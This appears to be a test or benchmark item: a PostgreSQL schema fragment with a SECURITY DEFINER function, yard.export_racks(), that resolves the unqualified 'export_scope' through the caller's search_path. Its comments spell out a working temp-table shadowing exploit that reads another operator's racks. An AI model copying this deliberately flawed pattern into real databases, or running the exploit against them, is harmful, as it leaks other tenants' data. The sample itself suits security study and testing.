-- The owner's function looks its scope up along the caller's search path, so a temporary table widens it to
-- anybody.
-- about: export_racks, export_scope, racks, sites
-- as: hf_robotyard_app
-- exploit: SET fleet.operator = '1';
-- exploit: CREATE TEMP TABLE export_scope (operator_id integer);
-- exploit: INSERT INTO export_scope VALUES (2);
-- exploit: SELECT * FROM yard.export_racks();
-- shows: Road-secret goods
-- What the running export may read. Only the function uses it.
CREATE VIEW yard.export_scope AS SELECT yard.operator() AS operator_id;
CREATE FUNCTION yard.export_racks() RETURNS TABLE (hall text, label text, content text)
  LANGUAGE plpgsql STABLE SECURITY DEFINER
  AS $$
  BEGIN
    PERFORM set_config('search_path', current_setting('search_path') || ', yard', true);
    RETURN QUERY SELECT s.title, k.label, k.content
      FROM yard.racks k JOIN yard.sites s ON s.id = k.site_id
      WHERE s.operator_id IN (SELECT e.operator_id FROM export_scope e);
  END $$;
